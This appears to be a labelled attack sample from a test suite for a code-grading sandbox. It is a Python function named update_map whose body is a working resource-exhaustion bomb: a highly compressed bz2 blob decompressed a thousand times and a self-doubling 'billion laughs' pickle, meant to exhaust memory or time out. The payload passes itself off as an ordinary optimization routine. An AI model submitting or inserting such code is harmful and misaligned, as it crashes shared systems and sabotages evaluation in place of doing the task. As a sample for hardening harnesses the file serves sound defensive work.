# attack: unpacks some kilobytes to gigabytes, and loads a pickle that doubles itself
# kind: bomb
# grade: 1.b
# outcome: memory, timeout, failed
# module: saddle

import bz2
import pickle

ZEROS = bz2.compress(bytes(32 << 20))
LAUGHS = b"(lp0\n" + b"".join(b"(g%d\ng%d\nlp%d\n" % (k, k, k + 1) for k in range(30)) + b"."


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    laughs = repr(pickle.loads(LAUGHS))
    return len(laughs), [bz2.decompress(ZEROS) for _ in range(1000)]
